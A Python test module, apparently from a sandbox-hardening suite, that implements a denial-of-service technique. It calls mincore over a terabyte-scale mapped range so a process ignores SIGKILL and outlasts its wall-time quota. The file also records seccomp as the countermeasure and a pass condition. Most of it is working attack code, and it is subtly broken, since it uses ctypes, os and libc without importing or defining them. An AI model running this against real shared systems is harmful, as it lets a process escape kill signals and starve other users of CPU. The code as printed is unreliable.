"""Stay in one system call for longer than the wall time.

Technique: mincore(2) over an address range of terabytes. It answers a byte for every page and looks for no signal until it is
    done: a process in it is not killed by SIGKILL before that, and a kernel that does not preempt itself gives the
    processor to nobody else meanwhile, whatever the quota. The bytes need no memory: two megabytes, mapped again and
    again, take them all. With many threads nobody can end an execution for many minutes after its time.
Success: a process needs more than a second to die after SIGKILL.
Stopped by: seccomp
Held when: refused; answered_within 12 s
"""
import mmap
import signal
import time

PAGE = 4096
BYTES = 2 << 20
# 4096 × 2 MB of answers: 32 TB of address space.
TIMES = 4096
SECONDS = 6
PROT_NONE, MAP_SHARED, MAP_FIXED, MAP_RESERVED = 0, 1, 0x10, 0x4022


def address_range(length):
    """Address space without memory."""
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    start = libc.mmap(None, length, PROT_NONE, MAP_RESERVED, -1, 0)
    if start == ctypes.c_void_p(-1).value:
        raise OSError(ctypes.get_errno(), "mmap")
    return start


def long_call(length):
    answers = address_range(BYTES * TIMES)
    file = os.memfd_create("answers")
    os.ftruncate(file, BYTES)
    for number in range(TIMES):
        libc.mmap(answers + number * BYTES, BYTES, mmap.PROT_READ | mmap.PROT_WRITE, MAP_SHARED | MAP_FIXED, file, 0)
    start = address_range(length)
    libc.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p]
    return start, answers


def attack():
    length = BYTES * TIMES * PAGE
    start, answers = long_call(length)
    # A short one first: whether it is allowed at all, and how long six seconds are.
    short, begun = length // 128, time.process_time()
    if libc.mincore(start, short, answers):
        raise OSError(ctypes.get_errno(), "mincore")
    length = min(length, int(short * SECONDS / (time.process_time() - begun)) & -PAGE)
    child = os.fork()
    if child == 0:
        libc.mincore(start, length, answers)
        os._exit(0)
    time.sleep(0.3)
    os.kill(child, signal.SIGKILL)
    killed = time.monotonic()
    os.waitpid(child, 0)
    took = time.monotonic() - killed
    if took > 1:
        return f"mincore of {length >> 30} GB kept a process alive for {took:.1f} s after SIGKILL"


def twin():
    """Whether there is memory at an address, as unwinders of stacks ask where there is no mincore."""
    libc.msync.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    memory = mmap.mmap(-1, 16 * PAGE)
    start = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    assert libc.msync(start, len(memory), 1) == 0
    assert libc.msync(PAGE, PAGE, 1) == -1
